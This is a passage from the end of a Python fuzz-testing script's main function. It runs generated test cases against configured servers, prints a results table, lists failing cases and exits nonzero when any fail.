        bases["staff"] = args.staff
    cases = [c for c in generate_cases(args.seed, FuzzConfig.from_env()) if c.server in bases]
    if args.limit:
        cases = cases[:args.limit]
    report = FuzzRunner(bases, args.concurrency).run(cases)
    print(report.table())
    bad = report.server_errors() + report.failures()
    for outcome in bad[:50]:
        print(f"  case {outcome.case.number} {outcome.case.endpoint} {outcome.case.kind} "
              f"{outcome.case.description[:80]!r}: {outcome.status or outcome.error}")
    return 1 if bad else 0


if __name__ == "__main__":
    raise SystemExit(main())
